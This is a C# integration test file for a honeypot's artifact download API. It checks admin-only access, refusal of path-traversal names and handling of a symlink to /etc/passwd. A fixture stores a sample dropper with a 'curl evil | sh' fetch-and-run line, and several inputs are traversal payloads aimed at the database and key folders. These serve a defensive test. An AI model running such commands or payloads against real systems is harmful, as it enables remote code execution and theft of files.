using System.Net;
using Decnet.Core.Artifacts;
using Decnet.Core.Users;
using Decnet.Tests.Infrastructure;
using Microsoft.Extensions.DependencyInjection;

namespace Decnet.Tests.Artifacts;

[Trait("Category", TestCategories.Integration)]
public sealed class ArtifactDownloadTests : IAsyncLifetime
{
    private const string StoredAs = "20261129T120000Z_0123456789ab_dropper.sh";
    private readonly DecnetWebFactory _factory = new();
    private HttpClient _admin = null!;
    private string _root = "";

    public async ValueTask InitializeAsync()
    {
        _factory.CreateClient().Dispose();
        _admin = _factory.CreateClient((await _factory.CreateActiveUserAsync("keeper", UserRole.Admin)).Token);
        _root = _factory.Services.GetRequiredService<ArtifactVault>().Root;
        Directory.CreateDirectory(Path.Combine(_root, "web-01", "ftp"));
        await File.WriteAllTextAsync(Path.Combine(_root, "web-01", "ftp", StoredAs), "#!/bin/sh\ncurl evil | sh\n");
    }

    public async ValueTask DisposeAsync()
    {
        _admin.Dispose();
        await _factory.DisposeAsync();
    }

    [Fact]
    public async Task An_admin_downloads_a_captured_file_as_an_attachment_with_its_original_name()
    {
        var response = await _admin.GetAsync($"/api/v1/artifacts/web-01/ftp/{StoredAs}");
        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
        Assert.Equal("application/octet-stream", response.Content.Headers.ContentType?.MediaType);
        Assert.Equal("dropper.sh", response.Content.Headers.ContentDisposition?.FileNameStar ?? response.Content.Headers.ContentDisposition?.FileName?.Trim('"'));
        Assert.Equal("#!/bin/sh\ncurl evil | sh\n", await response.Content.ReadAsStringAsync());
    }

    [Fact]
    public async Task Viewers_may_not_download()
    {
        var (_, token) = await _factory.CreateActiveUserAsync("looker", UserRole.Viewer);
        using var viewer = _factory.CreateClient(token);
        Assert.Equal(HttpStatusCode.Forbidden, (await viewer.GetAsync($"/api/v1/artifacts/web-01/ftp/{StoredAs}")).StatusCode);
    }

    [Theory]
    [InlineData("web-01/ftp/decnet.db")]
    [InlineData("web-01/ftp/..%2F..%2Fdecnet.db")]
    [InlineData("..%2F..%2F/ftp/" + StoredAs)]
    [InlineData("web-01/..%2F..%2Fkeys/" + StoredAs)]
    [InlineData("web-01/FTP/" + StoredAs)]
    [InlineData("web-01/ftp/20261129T120000Z_0123456789ab_..")]
    public async Task Names_not_in_the_stored_form_are_refused(string path)
    {
        var response = await _admin.GetAsync($"/api/v1/artifacts/{path}");
        Assert.True(response.StatusCode is HttpStatusCode.BadRequest or HttpStatusCode.NotFound, $"{path} gave {(int)response.StatusCode}");
        Assert.DoesNotContain("SQLite format", await response.Content.ReadAsStringAsync(), StringComparison.Ordinal);
    }

    [Fact]
    public async Task A_link_planted_in_the_artifact_folder_does_not_lead_outside_it()
    {
        var link = Path.Combine(_root, "web-01", "ftp", "20261129T120001Z_0123456789ab_passwd");
        File.CreateSymbolicLink(link, "/etc/passwd");
        var response = await _admin.GetAsync("/api/v1/artifacts/web-01/ftp/20261129T120001Z_0123456789ab_passwd");
        Assert.Equal(HttpStatusCode.NotFound, response.StatusCode);
        Assert.Equal(HttpStatusCode.NotFound, (await _admin.GetAsync("/api/v1/artifacts/web-01/ftp/20261129T120002Z_0123456789ab_missing")).StatusCode);
    }
}
